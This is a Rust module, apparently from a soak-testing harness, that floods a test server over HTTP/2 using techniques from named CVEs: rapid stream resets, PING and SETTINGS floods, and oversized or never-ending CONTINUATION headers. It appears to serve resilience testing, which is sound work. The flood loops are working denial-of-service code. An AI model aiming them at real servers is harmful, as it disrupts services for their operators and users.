//! Floods over HTTP/2: resets (CVE-2023-44487), pings and settings (CVE-2019-9512, -9515), headers and their continuations (CVE-2024-27316).

use std::io;

use tokio::io::AsyncWriteExt as _;

use super::Ground;
use super::http2_unread::answer_pings;
use crate::soak::wire::{connect, http2, http2_frame, http2_get, http2_headers};

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// Frames written at once.
const BATCH: usize = 100;

/// Requests that are taken back at once.
pub(super) async fn resets(ground: Ground) {
    ground.crowd(4, reset).await;
}

async fn reset(ground: Ground, index: usize) -> io::Result<()> {
    let person = ground.person(index);
    let mut stream = connect(person.from, ground.field.server).await?;
    stream.write_all(&http2(&[])).await?;
    let block = http2_get(&format!("/messages/{}?limit=100", ground.field.room), &person.token);
    let mut ids = (1..u32::MAX / 2).step_by(2);
    loop {
        let mut batch = Vec::new();
        for id in ids.by_ref().take(BATCH) {
            batch.extend(http2_frame(HEADERS, END_STREAM | END_HEADERS, id, &block));
            batch.extend(http2_frame(RST_STREAM, 0, id, &CANCEL));
        }
        stream.write_all(&batch).await?;
        ground.count(BATCH as u64);
    }
}

/// Connections that only answer pings, and those that send pings and settings whose acknowledgements nobody reads.
pub(super) async fn pings_and_settings(ground: Ground) {
    ground.crowd(16, ping).await;
}

async fn ping(ground: Ground, index: usize) -> io::Result<()> {
    let person = ground.person(index);
    let mut stream = connect(person.from, ground.field.server).await?;
    stream.write_all(&http2(&[])).await?;
    ground.count(1);
    let batch = match index / 4 % 4 {
        0 => http2_frame(PING, 0, 0, &[7; 8]).repeat(BATCH),
        1 => http2_frame(SETTINGS, 0, 0, &[]).repeat(BATCH),
        _ => return answer_pings(&mut stream).await,
    };
    loop {
        stream.write_all(&batch).await?;
        ground.count(BATCH as u64);
    }
}

/// Heads that are too long, and heads that never end.
pub(super) async fn headers(ground: Ground) {
    ground.crowd(4, head).await;
}

async fn head(ground: Ground, index: usize) -> io::Result<()> {
    let person = ground.person(index);
    let mut stream = connect(person.from, ground.field.server).await?;
    stream.write_all(&http2(&[])).await?;
    let block = http2_get("/auth/me", &person.token);
    let filler = http2_headers(&[("x-filler", &"x".repeat(1000))]).repeat(12);
    if index.is_multiple_of(2) {
        for id in (1..20_000).step_by(2) {
            let frames = [
                http2_frame(HEADERS, END_STREAM, id, &block),
                http2_frame(CONTINUATION, 0, id, &filler),
                http2_frame(CONTINUATION, END_HEADERS, id, &filler),
            ];
            stream.write_all(&frames.concat()).await?;
            ground.count(1);
        }
        return Ok(());
    }
    stream.write_all(&http2_frame(HEADERS, END_STREAM, 1, &block)).await?;
    let continuation = http2_frame(CONTINUATION, 0, 1, &if index % 4 == 1 { filler } else { Vec::new() });
    loop {
        stream.write_all(&continuation).await?;
        ground.count(1);
    }
}
